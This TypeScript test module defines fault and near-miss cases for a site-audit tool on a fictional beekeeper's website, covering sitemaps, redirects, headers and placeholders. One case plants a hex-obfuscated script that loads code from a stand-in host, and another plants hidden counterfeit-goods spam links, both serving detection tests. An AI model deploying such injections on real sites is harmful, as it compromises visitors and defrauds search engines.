import {
  ABOUT,
  type AccuracyCase,
  add,
  at,
  bodyOf,
  CHAIN,
  CITY,
  CONTACT,
  copyPage,
  EVERY_PAGE,
  edit,
  forward,
  full,
  HOME,
  head,
  header,
  jsonLd,
  link,
  main,
  RAIN,
  TOUR,
  TYRES,
} from "./planting.ts";
import type { World } from "./world.ts";

const MAP = "/sitemap.xml";
const INSTALL = "/wp-admin/install.php";
const USERS = "/wp-json/wp/v2/users";
const JSON_TYPE = { "content-type": "application/json" };

function part(rule: string, faulty: string, sound: string): AccuracyCase {
  return { rule, fault: (w) => main(w, CONTACT, faulty), nearMiss: (w) => main(w, CONTACT, sound) };
}

function entry(w: World, given: string): void {
  edit(w, MAP, ["</urlset>", `<url><loc>${given}</loc></url></urlset>`]);
}

/** Of a beekeeper's orders, which only those who log in may see. */
function orders(w: World, to: string, form: string): void {
  copyPage(w, ABOUT, to);
  main(w, to, form);
  forward(w, "/bestellungen-imkerei/", full(to), 302);
  link(w, HOME, "/bestellungen-imkerei/", to);
}

function signed(w: World, person: Record<string, unknown>): void {
  edit(w, CHAIN, [/"author":\{[^}]*\},/, '"author":{"@id":"#imker"},']);
  edit(w, CHAIN, ["By Ann Miller, ", ""]);
  jsonLd(w, CHAIN, { "@type": "Person", ...person });
}

function pair(rule: string, faulty: Record<string, unknown>, sound: Record<string, unknown>): AccuracyCase {
  return { rule, fault: (w) => jsonLd(w, CONTACT, faulty), nearMiss: (w) => jsonLd(w, CONTACT, sound) };
}

function search(target: unknown): Record<string, unknown> {
  return { "@type": "WebSite", name: "Imkerei", url: full(HOME), potentialAction: { "@type": "SearchAction", target } };
}

/** What comes with the upkeep of a site: its maps, its server, its doors and states. */
export const UPKEEP_CASES: AccuracyCase[] = [
  {
    rule: "sitemap_invalid",
    fault: (w) => edit(w, MAP, ["<?xml", "<!-- Imkerei --><?xml"]),
    nearMiss: (w) => edit(w, MAP, [/\?>/, "?><!-- Imkerei -->"]),
  },
  {
    rule: "sitemap_invalid",
    fault: (w) => edit(w, MAP, [full(TOUR), `${full(TOUR)}?sorte=linde&glas=500`]),
    nearMiss: (w) => edit(w, MAP, ["<urlset", "<!-- Honig & Wachs --><urlset"]),
  },
  {
    rule: "sitemap_invalid",
    fault: (w) => edit(w, MAP, ["</loc>", ""]),
    nearMiss: (w) => edit(w, MAP, [full(TOUR), `${full(TOUR)}?sorte=linde&amp;glas=500`]),
  },
  {
    rule: "sitemap_foreign_url",
    fault: (w) => entry(w, `https://staging.${w.domain}/honig/`),
    nearMiss: (w) => entry(w, `https://stagecraft.${w.domain}/honig/`),
  },
  {
    rule: "sitemap_duplicate_url",
    fault: (w) => entry(w, full(TOUR)),
    nearMiss: (w) => entry(w, `${full(TOUR)}#glas`),
  },
  {
    rule: "sitemap_parameters",
    fault: (w) => entry(w, `${full(CITY)}?utm_source=rundbrief`),
    nearMiss: (w) => entry(w, `${full(CITY)}?glas=500`),
  },
  {
    rule: "temporary_redirect",
    fault: (w) => orders(w, "/honig-bestellen/", "<p>Lindenhonig</p>"),
    nearMiss: (w) =>
      orders(w, "/mein-stock/", '<form method="post" action="/x"><input type="password" aria-label="Kennwort"></form>'),
  },
  {
    rule: "link_to_redirect",
    fault: (w) => orders(w, "/honig-bestellen/", "<p>Lindenhonig</p>"),
    nearMiss: (w) => orders(w, "/login/", "<p>Bitte anmelden</p>"),
  },
  {
    rule: "author_missing",
    fault: (w) => signed(w, { "@id": "#wachs", name: "Jonas Imhof" }),
    nearMiss: (w) => signed(w, { "@id": "#imker", name: "Jonas Imhof" }),
  },
  {
    rule: "noindex_page",
    fault: (w) => {
      copyPage(w, TYRES, "/dankbarkeit-der-bienen/");
      head(w, "/dankbarkeit-der-bienen/", '<meta name="robots" content="noindex">');
      link(w, HOME, "/dankbarkeit-der-bienen/");
    },
    nearMiss: (w) => {
      copyPage(w, TYRES, "/danke-fuer-ihre-anfrage/");
      head(w, "/danke-fuer-ihre-anfrage/", '<meta name="robots" content="noindex">');
      link(w, HOME, "/danke-fuer-ihre-anfrage/");
    },
  },
  part("hash_bang_link", '<a href="#!/linde">Lindenhonig</a>', '<a href="#!">Zeigen</a> <a href="#linde">Linde</a>'),
  part(
    "controls_hidden",
    '<div aria-hidden="true"><p>Mehr im <a href="/about/">Stock der Imkerei</a></p></div>',
    '<div aria-hidden="true" class="menu"><a href="/about/">Stock</a></div><div aria-hidden="true"><a tabindex="-1" href="/about/">Stock</a></div>',
  ),
  part(
    "invalid_aria",
    '<div role="checkbox" tabindex="0" aria-label="Mit Wabe"></div>',
    '<div role="checkbox" tabindex="0" aria-label="Mit Wabe" aria-checked="false"></div><input type="checkbox" role="switch" aria-label="Abo">',
  ),
  {
    rule: "local_link",
    fault: (w) => head(w, CONTACT, `<base href="https://preview.${w.domain}/">`),
    nearMiss: (w) => head(w, CONTACT, `<base href="${full(CONTACT)}">`),
  },
  pair(
    "same_as_empty",
    { "@type": "Organization", name: "Imkerei Imhof", sameAs: ["https://www.facebook.com/", "#"] },
    { "@type": "Organization", name: "Imkerei Imhof", sameAs: ["https://www.facebook.com/imkereiimhof/"] },
  ),
  pair(
    "search_action_invalid",
    search(`${full(HOME)}?s=`),
    search({ "@type": "EntryPoint", urlTemplate: `${full(HOME)}?s={search_term_string}` }),
  ),
  {
    rule: "php_unsupported",
    fault: (w) => header(w, HOME, ["x-powered-by", "PHP/5.6.40"]),
    nearMiss: (w) => header(w, HOME, ["x-powered-by", "PHP/8.5.1"]),
  },
  {
    rule: "cors_credentials",
    fault: (w) => {
      header(w, HOME, ["access-control-allow-origin", "*"]);
      header(w, HOME, ["access-control-allow-credentials", "true"]);
    },
    nearMiss: (w) => header(w, HOME, ["access-control-allow-origin", "*"]),
  },
  {
    rule: "exposed_files",
    fault: (w) =>
      add(w, INSTALL, '<title>WordPress</title><form id="setup"><input name="weblog_title" type="text"></form>'),
    nearMiss: (w) => add(w, INSTALL, "<title>WordPress</title><h1>Already Installed</h1><a>Log In</a>"),
  },
  {
    rule: "users_listed",
    fault: (w) => add(w, USERS, '[{"id":3,"name":"Jonas","url":"","slug":"jonas-imhof"}]', JSON_TYPE),
    nearMiss: (w) => add(w, USERS, '{"code":"rest_user_cannot_view","message":"Sorry"}', JSON_TYPE),
  },
  {
    rule: "snippet_forbidden",
    fault: (w) => edit(w, TYRES, ["<main", "<main data-nosnippet"]),
    nearMiss: (w) => main(w, TYRES, "<p data-nosnippet>Charge 44-A</p>"),
  },
  {
    rule: "page_sent_as_file",
    fault: (w) => header(w, TYRES, ["content-disposition", 'attachment; filename="honig.html"']),
    nearMiss: (w) => header(w, TYRES, ["content-disposition", "inline"]),
  },
  {
    rule: "product_name_not_shown",
    fault: (w) => honey(w, "Bienenwachskerze gerollt"),
    nearMiss: (w) => honey(w, "Lindenhonig 500 g"),
  },
  {
    rule: "product_name_not_shown",
    fault: (w) => honey(w, "Propolis Tinktur"),
    nearMiss: (w) => honey(w, "Tilia Reserve"),
  },
  {
    rule: "image_placeholder",
    fault: (w) => placeholder(w, "/wp-content/uploads/woocommerce-placeholder-300x300.webp"),
    nearMiss: (w) => placeholder(w, "/wp-content/uploads/placeholder-der-imkerei.webp"),
  },
  {
    rule: "title_placeholder",
    fault: (w) => edit(w, CITY, [/<title>[^<]*/, "<title>Untitled-3"]),
    nearMiss: (w) => edit(w, CITY, [/<title>[^<]*/, "<title>Saal Untitled 3: Lesung über Bienen und Honig"]),
  },
  {
    rule: "title_placeholder",
    fault: (w) => edit(w, CITY, [/<title>[^<]*/, "<title>Kopie von Kopie von Rähmchen bauen"]),
    nearMiss: (w) => edit(w, CITY, [/<title>[^<]*/, "<title>Kopie von Rähmchen bauen: ein Kurs im Mai"]),
  },
  {
    rule: "placeholder_text",
    fault: (w) => described(w, "Enter a description of the page here, up to 160 characters"),
    nearMiss: (w) =>
      described(w, "Enter our honey show in May: how to fill in the form, what to bring, and who judges"),
  },
  part("placeholder_text", "<h2>Your heading here</h2>", "<h2>Your heading, her sound: how bees find home</h2>"),
  part("empty_href", '<a href="#!">Honig vorbestellen</a>', '<a href="#main">Zum Anfang</a>'),
  {
    rule: "schema_date_invalid",
    fault: (w) => jsonLd(w, ABOUT, { "@type": "CreativeWork", datePublished: "0000-00-00" }),
    nearMiss: (w) => jsonLd(w, ABOUT, { "@type": "CreativeWork", datePublished: "2024-12-31" }),
  },
  {
    rule: "og_placeholder",
    fault: (w) => shared(w, "My WordPress Blog"),
    nearMiss: (w) => shared(w, "My WordPress blog about bees, and what it taught me"),
  },
  {
    rule: "injected_spam",
    fault: (w) =>
      head(
        w,
        CITY,
        `<script>var a=[${hexed("<script src=")},${hexed("//bienen.example/l.js")}];document[${hexed("write")}](a.join(''));</script>`,
      ),
    nearMiss: (w) => head(w, CITY, `<script>document['title'] += ${hexed(" – Honig & mehr")};</script>`),
  },
  {
    rule: "search_bots_refused",
    fault: (w) => {
      for (const path of EVERY_PAGE) at(w, path).byAgent.Googlebot = { status: 503, body: "Einen Moment" };
    },
    nearMiss: (w) => {
      for (const path of EVERY_PAGE.slice(1)) at(w, path).byAgent.Googlebot = { status: 401, body: "Nur geprüfte" };
    },
  },
  {
    rule: "injected_spam",
    fault: (w) => behind(w, "color:#fff;font-size:1px"),
    nearMiss: (w) => behind(w, "color:#333"),
  },
  {
    rule: "form_script_unrun",
    fault: (w) => served(w, "application/octet-stream"),
    nearMiss: (w) => served(w, "text/html"),
  },
  {
    rule: "form_unsent",
    fault: (w) => thanking(w, ""),
    nearMiss: (w) => thanking(w, 'navigator.sendBeacon("/post", new FormData(form));'),
  },
  part(
    "script_broken",
    "<script>document.querySelector('.menu').onclick = () => { toggle('menu';</script>",
    "<script>document.querySelector('.menu').onclick = () => { toggle('menu'); };</script><script type=\"text/template\">{{#menu}} {</script>",
  ),
  {
    rule: "script_broken",
    fault: (w) => ownScript(w, "<<<<<<< HEAD\nconst menu = 1;\n=======\nconst menu = 2;\n>>>>>>> relaunch"),
    nearMiss: (w) => ownScript(w, 'import { menu } from "./menu.js";\nmenu("<<<<<<< HEAD");'),
  },
  {
    rule: "text_by_script",
    fault: (w) => answering(w, "fragen"),
    nearMiss: (w) => answering(w, "cookie-banner"),
  },
  {
    rule: "assets_blocked",
    fault: (w) => closedScript(w, "/assets/laden.js"),
    nearMiss: (w) => closedScript(w, "/wp-admin/js/passwort.js"),
  },
];

function ownScript(w: World, code: string): void {
  add(w, "/assets/menu-main.js", code, { "content-type": "text/javascript" });
  head(w, TOUR, '<script src="/assets/menu-main.js"></script>');
}

function shared(w: World, title: string): void {
  edit(w, RAIN, [/<meta property="og:title" content="[^"]*">/, `<meta property="og:title" content="${title}">`]);
}

/** As intruders write it, by the codes of its letters. */
function hexed(text: string): string {
  return `'${[...text].map((letter) => `\\x${letter.charCodeAt(0).toString(16).padStart(2, "0").slice(-2)}`).join("")}'`;
}

function described(w: World, text: string): void {
  edit(w, TOUR, [/<meta name="description" content="[^"]*">/, `<meta name="description" content="${text}">`]);
}

/** Two pages without the site's own template, linked in its home page in that style. */
function behind(w: World, style: string): void {
  const names = ["Uhren wie echt aus der Schweiz bestellen", "Taschen großer Marken zum halben Preis"];
  const paths = names.map((_, at) => `/uploads/laden-${at}/`);
  for (const [at, path] of paths.entries())
    add(
      w,
      path,
      `<!doctype html><html><head><title>${names[at]}</title></head><body><h1>${names[at]}</h1></body></html>`,
    );
  main(w, HOME, `<p style="${style}">${paths.map((path, at) => `<a href="${path}">${names[at]}</a>`).join(" ")}</p>`);
}

/** A script that a form submits to, as the server answers it. */
function served(w: World, type: string): void {
  add(w, "/senden.php", "<?php mail('imker@example.com');", { "content-type": type });
  main(
    w,
    CONTACT,
    '<form method="post" action="/senden.php"><input type="email" name="mail" aria-label="E-Mail"><button>Los</button></form>',
  );
}

/** A beekeeper's enquiries, handled by a script that thanks and does this. */
function thanking(w: World, sends: string): void {
  const form =
    '<form id="anfrage"><label>E-Mail <input type="email" name="email"></label><button>Senden</button></form>';
  const script = `const form = document.getElementById("anfrage"); form.addEventListener("submit", (e) => { e.preventDefault(); ${sends} alert("Danke, wir melden uns!"); form.reset(); });`;
  main(w, CONTACT, `${form}<script>${script}</script>`);
}

/** Answers of a beekeeper that a script writes into that element, where the page has it. */
function answering(w: World, target: string): void {
  const answer = "Unser Honig kommt von zwölf Völkern am Waldrand und wird im eigenen Keller geschleudert und gerührt.";
  const list = Array.from({ length: 7 }, (_, at) => `"${at + 1}. ${answer}"`).join(", ");
  const script = `const box = document.getElementById("${target}"); [${list}].forEach((text) => { const p = document.createElement("p"); p.textContent = text; box.appendChild(p); });`;
  main(w, ABOUT, `<div id="fragen"></div><script>${script}</script>`);
}

/** Of a folder that robots.txt closes. */
function closedScript(w: World, path: string): void {
  edit(w, "/robots.txt", ["Disallow: /cart/", `Disallow: /cart/\nDisallow: /${path.split("/")[1]}/`]);
  add(w, path, "window.laden = 1;", { "content-type": "text/javascript" });
  head(w, TOUR, `<script src="${path}" defer></script>`);
}

function placeholder(w: World, src: string): void {
  add(w, src, bodyOf(w, "/img/city.webp"), { "content-type": "image/webp" });
  main(w, TOUR, `<img src="${src}" alt="Lindenhonig im Glas" width="300" height="300" loading="lazy">`);
}

/** A jar of honey, whose data name it so. */
function honey(w: World, name: string): void {
  const path = "/laden/glas-7/";
  const text = "Mild und klar, im Juli geschleudert. Im Handel heißt er Tilia Reserve und kommt ins Glas, wie er ist.";
  add(
    w,
    path,
    `<!doctype html><html lang="de"><head><meta charset="utf-8"><title>Lindenhonig aus Imhofs Stock</title><link rel="canonical" href="${full(path)}"></head><body><main><h1>Lindenhonig</h1><p>${text}</p><p>9,50 €</p></main><a href="/">Start</a></body></html>`,
  );
  const offers = { "@type": "Offer", price: "9.50", priceCurrency: "EUR", availability: "https://schema.org/InStock" };
  jsonLd(w, path, { "@type": "Product", name, image: full("/img/city.webp"), offers });
  link(w, HOME, path);
}
